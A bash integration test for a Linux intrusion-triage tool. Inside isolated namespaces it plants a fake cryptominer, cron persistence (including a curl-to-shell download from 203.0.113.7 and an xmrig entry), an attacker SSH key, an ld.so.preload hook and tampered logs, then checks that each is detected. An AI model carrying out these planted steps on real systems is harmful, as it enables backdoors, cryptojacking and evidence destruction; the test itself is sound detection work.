#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# `minerwatch triage` on a host that was owned before we arrived, built for
# real inside private mount, pid and network namespaces (never the real
# paths: tmpfs over /root, /home, /tmp, /var/tmp, /dev/shm, /var/log, an
# overlay over /etc, an ext4 image over /var/spool/cron): a miner from a
# hidden directory burning a core and logged in to a fake pool on the
# namespace's loopback, three kinds of cron entries (hidden path, download
# piped into a shell, a known miner), an immutable crontab, an attacker's
# SSH key, ld.so.preload, auth.log cut in the middle of a line, syslog with
# a four-hour gap, wtmp cut mid-record and zeroed, brute force then a
# login (rotated auth.log; btmp + wtmp), a password change at 03:12, a
# password list and masscan output in /tmp, shell history -> /dev/null, a
# file name with a newline and invalid UTF-8. Each finding is asserted in
# `triage --json` with its rule and path; the same namespaces left clean
# must yield exit 0 and nothing at severity >= 50.
. "$(dirname "$0")/lib.sh"

for tool in unshare python3 jq; do
	command -v "$tool" >/dev/null || skip "$tool is not installed"
done
[ -x "$MW_HELPERS/busyminer" ] || skip "build the helpers (busyminer)"
for d in /etc /root /home /tmp /var/tmp /dev/shm /var/log /var/spool/cron; do
	[ -d "$d" ] || skip "$d does not exist"
done

# The checkout may live under /tmp (a CI clone), which the scenarios hide
# under a tmpfs: they run the binary and the rules from a copy in /run.
BIN_STAGE=$(mktemp -d /run/mw-triage-bin.XXXXXX)
# Removed however the test ends (finish and skip exit early).
trap 'rm -rf "${STAGE:-}" "$BIN_STAGE"; cleanup' EXIT
cp "$MW_BIN" "$BIN_STAGE/minerwatch" && cp -r "$MW_ROOT/rules" "$BIN_STAGE/rules" ||
	fail "cannot stage the binary and rules in $BIN_STAGE"

# Mounts shared by both scenarios; every one is checked before anything
# is written (exit 99 otherwise). The scratch tmpfs lives under $T, which
# the tmpfs over /tmp then hides: nothing below needs $T by name.
SETUP='
set -e
mount -t tmpfs mwscratch "$NS"
mkdir -p "$NS/uetc" "$NS/wetc"
mount -t overlay overlay -o "lowerdir=/etc,upperdir=$NS/uetc,workdir=$NS/wetc" /etc
mkdir -p "$NS/img"
IMMUTABLE=no
if truncate -s 16M "$NS/img/cron.img" && mkfs.ext4 -q -F "$NS/img/cron.img" >/dev/null 2>&1 &&
	mount -o loop "$NS/img/cron.img" /var/spool/cron 2>/dev/null; then
	IMMUTABLE=yes
else
	mount -t tmpfs tmpfs /var/spool/cron
fi
for m in /root /home /tmp /var/tmp /dev/shm /var/log; do mount -t tmpfs tmpfs "$m"; done
for m in /etc /root /home /tmp /var/tmp /dev/shm /var/log /var/spool/cron; do
	mountpoint -q "$m" || { echo "test_triage: $m is not a private mount: refusing" >&2; exit 99; }
done
mkdir -p -m 1730 /var/spool/cron/crontabs
ip link set lo up
set +e
'

# in_namespaces SCRIPT OUT: run SCRIPT as pid 1 of new mount, pid and net
# namespaces with the mounts above; triage's JSON goes to OUT.
in_namespaces() {
	local ns
	ns=$(mktemp -d "$T/ns.XXXXXX")
	NS=$ns MW_BIN=$BIN_STAGE/minerwatch MW_HELPERS=$MW_HELPERS MW_ROOT=$BIN_STAGE \
		unshare -m -p -n -f --propagation private --mount-proc \
		bash -c "$SETUP
$1" >"$2" 2>"$T/ns.err"
}

# --- the clean host first -------------------------------------------------
in_namespaces '
start=$(date +%s%N)
"$MW_BIN" triage --rules "$MW_ROOT/rules" --json
echo "$?" >/dev/shm/rc
echo "{\"triage_rc\":$(cat /dev/shm/rc),\"ms\":$((($(date +%s%N) - start) / 1000000))}"
' "$T/clean.json"
rc=$?
[ "$rc" -ne 99 ] || fail "private mounts not in place: scenario not run"
if jq -e . "$T/clean.json" >/dev/null 2>&1; then
	ok "clean: every line is valid JSON"
else
	fail "clean: invalid JSON"; cat "$T/clean.json" "$T/ns.err" >&2
fi
crc=$(jq -r 'select(.triage_rc != null) | .triage_rc' "$T/clean.json")
ms=$(jq -r 'select(.ms != null) | .ms' "$T/clean.json")
[ "$crc" = 0 ] && ok "clean: exit 0" || fail "clean: exit $crc, want 0"
high=$(jq -c 'select(.event.severity != null and .event.severity >= 50)' "$T/clean.json")
[ -z "$high" ] && ok "clean: nothing at severity >= 50" ||
	fail "clean: findings >= 50: $high"
[ -n "$ms" ] && [ "$ms" -lt 5000 ] && ok "clean: took ${ms} ms (< 5 s)" ||
	fail "clean: took ${ms:-?} ms"

# --- the owned host -------------------------------------------------------
# Times in the logs: the gap ends 1 h ago, the login was 30 min ago.
now=$(date +%s)
stamp() { LC_ALL=C date -d "@$1" '+%b %e %H:%M:%S'; }
{
	for i in 0 1 2 3 4 5; do echo "$(stamp $((now - 6 * 3600 + i * 60))) host CRON[1$i]: pam_unix(cron:session): session opened for user root"; done
	for i in 0 1 2; do echo "$(stamp $((now - 3600 - 600 + i * 300))) host systemd[1]: Started session $i."; done
} >"$T/syslog"
night=$(date -d "$(date -d @$((now - 86400)) +%F) 03:12:00" +%s)
{
	for i in 1 2 3 4 5 6 7 8; do echo "$(stamp $((night - 600 + i * 30))) host sshd[9$i]: Failed password for root from 203.0.113.7 port 4$i ssh2"; done
	echo "$(stamp $((night - 60))) host sshd[99]: Accepted password for root from 203.0.113.7 port 5122 ssh2"
	echo "$(stamp "$night") host chpasswd[100]: pam_unix(chpasswd:chauthtok): password changed for root"
} >"$T/auth.log.1"
printf '%s host sshd[1]: Accepted publickey for root from 203.0.113.7 port 5200 ssh2\n%s host sshd[2]: Disconnected\n' \
	"$(stamp $((now - 1800)))" "$(stamp $((now - 1700)))" | tail -c 60 >"$T/auth.log"
# utmp records (struct utmp, 384 bytes): six failures in btmp; in wtmp a
# login from the same address, a zeroed record, and half a record.
python3 - "$T" "$now" <<'EOF'
import struct, sys
d, now = sys.argv[1], int(sys.argv[2])
def rec(t, pid, line, user, host, when):
    return struct.pack("hi32s4s32s256shhiii4i20s", t, pid, line.encode(), b"", user.encode(),
                       host.encode(), 0, 0, 0, when, 0, 0, 0, 0, 0, b"")
with open(d + "/btmp", "wb") as f:
    for i in range(6):
        f.write(rec(6, 100 + i, "ssh:notty", "admin", "198.51.100.9", now - 7200 + i))
with open(d + "/wtmp", "wb") as f:
    f.write(rec(7, 200, "pts/0", "root", "198.51.100.9", now - 7000))
    f.write(bytes(384))
    f.write(rec(7, 201, "pts/1", "root", "198.51.100.9", now - 6000)[:192])
EOF
cp "$MW_ROOT/tests/integration/helpers/fakepool.py" "$T/fakepool.py"

# $T is hidden inside the namespace (tmpfs over /tmp): stage through /run.
STAGE=$(mktemp -d /run/mw-triage.XXXXXX)
cp "$T/syslog" "$T/auth.log" "$T/auth.log.1" "$T/btmp" "$T/wtmp" "$T/fakepool.py" "$STAGE/"
cp "$MW_HELPERS/busyminer" "$STAGE/busyminer"

in_namespaces '
S='"$STAGE"'
set -e
python3 "$S/fakepool.py" --port 3333 --log /dev/shm/pool.log --timeout 12 &
for i in $(seq 50); do grep -q ":0D05 00000000:0000 0A" /proc/net/tcp && break; sleep 0.1; done
# The miner and its restart script in a hidden directory.
mkdir -p /root/.bashtemp
cp "$S/busyminer" /root/.bashtemp/kswapd0
printf "{\"pools\": [{\"url\": \"127.0.0.1:3333\", \"user\": \"x\"}]}\n" >/root/.bashtemp/config.json
printf "#!/bin/sh\ncd /root/.bashtemp && exec ./kswapd0 -o stratum+tcp://127.0.0.1:3333 --donate-level 1 10\n" >/root/.bashtemp/run.sh
chmod +x /root/.bashtemp/run.sh
setsid sh -c "/root/.bashtemp/run.sh" </dev/null >/dev/null 2>&1 &
for i in $(seq 50); do grep -q login /dev/shm/pool.log 2>/dev/null && break; sleep 0.1; done
# Cron, three kinds: a hidden path (immutable), a download piped into a
# shell, a known miner at boot.
echo "*/5 * * * * /root/.bashtemp/run.sh >/dev/null 2>&1" >/var/spool/cron/crontabs/root
[ "$IMMUTABLE" = yes ] && chattr +i /var/spool/cron/crontabs/root
echo "*/10 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh" >/etc/cron.d/sysupdate
echo "@reboot root /usr/local/bin/xmrig -o stratum+tcp://pool.example.net:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge" >>/etc/crontab
# A 4 KiB path with an invalid UTF-8 byte in a cron entry.
printf "* * * * * root /root/.h\377/%s/run\n" "$(head -c 4100 /dev/zero | tr "\\0" a)" >/etc/cron.d/long
# A trust relationship.
mkdir -p -m 700 /root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKattacker attacker@203.0.113.7" >/root/.ssh/authorized_keys
# The password changed (on the overlay: /etc/shadow of this namespace).
echo "root:Tr0ub4dor&3" | chpasswd
# Logs: cut, gapped, rotated; login records cut and zeroed.
cp "$S/auth.log" "$S/auth.log.1" "$S/syslog" "$S/btmp" "$S/wtmp" /var/log/
ln -s /dev/null /root/.bash_history
# Left behind: a password list, masscan output, a hostile file name.
for u in root admin oracle test ubuntu pi; do echo "$u:123456"; done >/tmp/pass.txt
for i in 1 2 3 4; do echo "Discovered open port 22/tcp on 192.0.2.$i"; done >/tmp/scan.txt
mkdir -p "/tmp/.x"
for u in root admin guest; do echo "$u:qwerty"; done >"/tmp/.x/$(printf "a\nb\377c")"
# Last: every program started after this reads it.
echo /root/.bashtemp/libhide.so >/etc/ld.so.preload
set +e
start=$(date +%s%N)
"$MW_BIN" triage --rules "$MW_ROOT/rules" --json 2>/dev/shm/triage.err
# The scenario facts go beside the findings, not among them: the
# findings file is checked as ECS (ecs_fields) like every daemon stream.
echo "{\"triage_rc\":$?,\"immutable\":\"$IMMUTABLE\",\"ms\":$((($(date +%s%N) - start) / 1000000))}" >"$S/status.json"
"$MW_BIN" triage --rules "$MW_ROOT/rules" >/dev/shm/human.txt 2>/dev/null
echo "{\"human_rc\":$?}" >>"$S/status.json"
cp /dev/shm/human.txt "$S/human.txt"
' "$OUT"
rc=$?
[ "$rc" -ne 99 ] || fail "private mounts not in place: scenario not run"
cp "$STAGE/human.txt" "$T/human.txt" 2>/dev/null
cp "$STAGE/status.json" "$T/status.json" 2>/dev/null
rm -rf "$STAGE" "$BIN_STAGE"

expect_valid_json
orc=$(jq -r 'select(.triage_rc != null) | .triage_rc' "$T/status.json")
[ "$orc" = 1 ] && ok "owned: exit 1" || { fail "owned: exit $orc, want 1"; cat "$T/ns.err" >&2; }
n=$(jq -c 'select(.rule.id != null)' "$OUT" | wc -l)
bad=$(jq -c 'select(.rule.id != null and (.event.kind != "alert" or .event.module != "minerwatch" or .event.dataset != "minerwatch.triage"))' "$OUT" | head -n 3)
[ "$n" -gt 10 ] && [ -z "$bad" ] && ok "owned: $n findings, each an ECS alert of minerwatch.triage" ||
	fail "owned: $n findings; not ECS triage alerts: $bad"

# Where a rule id is the daemon's, the ATT&CK techniques are the rule's.
jq -s '[.[] | .rules[] | {key: .id, value: .mitre.techniques}] | from_entries' \
	"$MW_ROOT"/rules/*.json >"$T/techniques.json"
diff=$(jq -c --slurpfile t "$T/techniques.json" \
	'select(.rule.id != null and $t[0][.rule.id] != null and .threat.technique.id != $t[0][.rule.id]) | [.rule.id, .threat.technique.id]' "$OUT" | head -n 3)
shared=$(jq -r --slurpfile t "$T/techniques.json" 'select(.rule.id != null and $t[0][.rule.id] != null) | .rule.id' "$OUT" | sort -u | wc -l)
[ -z "$diff" ] && [ "$shared" -ge 8 ] && ok "the $shared daemon rule ids used carry the daemon's ATT&CK ids" ||
	fail "ATT&CK ids differ from the daemon's rules: $diff ($shared shared ids)"

miner='.process.executable == "/root/.bashtemp/kswapd0"'
line=$(finding MW-MINER-002 "$miner" "the miner's pool URL on its command line")
[ -n "$line" ] && {
	expect "$line" '.threat.technique.id == ["T1496"]' "same ATT&CK id as the daemon's rule"
	expect "$line" '.minerwatch.triage.connections | any(.destination_port == 3333 and .state == "established")' \
		"its connection to the pool, from /proc/net joined to its socket"
	expect "$line" '.destination.ip == "127.0.0.1" and .destination.port == 3333' "destination.* set"
	expect "$line" '.process.working_directory == "/root/.bashtemp" and .process.user.id == "0" and (.process.start | length) > 0' \
		"start time, user and cwd"
	expect "$line" '.minerwatch.ancestry | length >= 1' "its lineage"
}
finding MW-EXEC-001 "$miner" "run from a hidden directory" >/dev/null
finding MW-TRIAGE-102 "$miner"' and .file.path == "/root/.bashtemp/config.json"' "its config.json names a pool" >/dev/null
line=$(finding MW-TRIAGE-101 "$miner" "holding a core")
[ -n "$line" ] && expect "$line" '.minerwatch.triage.cpu_percent >= 50' "cpu_percent >= 50"
finding MW-PERSIST-001 '.file.path == "/var/spool/cron/crontabs/root" and (.minerwatch.triage.reasons | test("hidden"))' "cron entry to the hidden directory" >/dev/null
finding MW-PERSIST-001 '.file.path == "/etc/cron.d/sysupdate" and (.minerwatch.triage.reasons | test("download"))' "cron download piped into a shell" >/dev/null
finding MW-PERSIST-001 '.file.path == "/etc/crontab" and (.minerwatch.triage.reasons | test("MW-MINER"))' "cron starting a known miner (the daemon's rules)" >/dev/null
if [ "$(jq -r 'select(.immutable != null) | .immutable' "$T/status.json")" = yes ]; then
	finding MW-PERSIST-013 '.file.path == "/var/spool/cron/crontabs/root" and (.file.attributes | index("immutable"))' "immutable crontab (FS_IOC_GETFLAGS)" >/dev/null
else
	log "SKIP one assertion: no ext4 image could be loop-mounted here, so no immutable crontab"
fi
finding MW-PERSIST-003 '.file.path == "/root/.ssh/authorized_keys"' "attacker key (file newer than the install)" >/dev/null
finding MW-PERSIST-005 '.file.path == "/etc/ld.so.preload" and .minerwatch.triage.libraries == ["/root/.bashtemp/libhide.so"]' "ld.so.preload" >/dev/null
finding MW-AF-001 '.file.path == "/var/log/auth.log"' "auth.log cut in the middle of a line" >/dev/null
finding MW-AF-003 '.file.path == "/var/log/syslog"' "syslog born after the boot with no rotated sibling" >/dev/null
n=$(jq -c 'select(.rule.id == "MW-AF-003" and .file.path == "/var/log/auth.log")' "$OUT" | wc -l)
[ "$n" -eq 0 ] && ok "auth.log with an auth.log.1 of the same moment: taken for a rotation" ||
	fail "auth.log reported as recreated although auth.log.1 came with it"
finding MW-TRIAGE-201 '.file.path == "/var/log/syslog" and .minerwatch.triage.gap_minutes >= 240' "four-hour gap in syslog" >/dev/null
finding MW-TRIAGE-202 '.file.path == "/var/log/wtmp" and .minerwatch.triage.zeroed_records == 1 and .minerwatch.triage.partial_bytes == 192' "wtmp zeroed and cut" >/dev/null
finding MW-TRIAGE-301 '.source.ip == "203.0.113.7" and .minerwatch.triage.failures == 8' "login after 8 failures (auth.log.1)" >/dev/null
finding MW-TRIAGE-301 '.source.ip == "198.51.100.9" and .minerwatch.triage.failures == 6' "login after 6 failures (btmp + wtmp)" >/dev/null
finding MW-PERSIST-009 '.user.name == "root" and .event.severity >= 60' "password changed at night" >/dev/null
finding MW-PERSIST-009 '.user.name == "root" and .file.path == "/etc/shadow"' "password changed after install (shadow's change day)" >/dev/null
finding MW-AF-004 '.file.path == "/root/.bash_history"' "history linked to /dev/null" >/dev/null
finding MW-TRIAGE-401 '.file.path == "/tmp/pass.txt"' "password list in /tmp" >/dev/null
finding MW-TRIAGE-402 '.file.path == "/tmp/scan.txt"' "masscan output in /tmp" >/dev/null
finding MW-TRIAGE-401 '.file.path == "/tmp/.x/a\nb\\xffc"' "a hostile file name, escaped, JSON intact" >/dev/null
finding MW-PERSIST-001 '.file.path == "/etc/cron.d/long" and (.minerwatch.triage.line | length) > 4096 and (.minerwatch.triage.line | contains("/root/.h\\xff/aaa"))' \
	"a 4 KiB path with a 0xff byte, whole and escaped" >/dev/null

# The report for a person: by question, with the timeline.
hrc=$(jq -r 'select(.human_rc != null) | .human_rc' "$T/status.json")
[ "$hrc" = 1 ] && ok "text report: exit 1" || fail "text report: exit $hrc"
for s in "What is running" "How it persists" "What was wiped" "How it got in" "What was left behind" "Timeline"; do
	grep -q "== $s" "$T/human.txt" && ok "text report: section '$s'" || fail "text report: no section '$s'"
done
grep -q '/root/.bashtemp/libhide.so: missing, hidden directory' "$T/human.txt" &&
	ok "text report: the preloaded library judged (missing, hidden directory)" ||
	fail "text report: no judgement of the preloaded library"
grep -q 'a\\x0ab\\xffc' "$T/human.txt" && ok "text report: hostile name escaped" ||
	fail "text report: hostile name not escaped"
ms=$(jq -r 'select(.ms != null) | .ms' "$T/status.json")
log "owned host triaged in ${ms} ms"

# The findings handed over: minerwatch report reads triage's output.
"$MW_BIN" report "$OUT" -o "$T/handover.txt" && ok "report reads triage --json" || fail "report exit $?"
grep -q 'kswapd0 (pid .*-o stratum+tcp' "$T/handover.txt" && ok "report: the miner in a process tree" ||
	fail "report: no miner node"
sed -n '/== Persistence/,/== Wiped logs/p' "$T/handover.txt" | grep -q "/etc/cron.d/sysupdate" &&
	ok "report: the cron entry under persistence" || fail "report: cron entry not under persistence"
sed -n '/== Wiped logs/,/== Way in/p' "$T/handover.txt" | grep -q "/var/log/wtmp" &&
	ok "report: wtmp under wiped logs" || fail "report: wtmp not under wiped logs"
finish
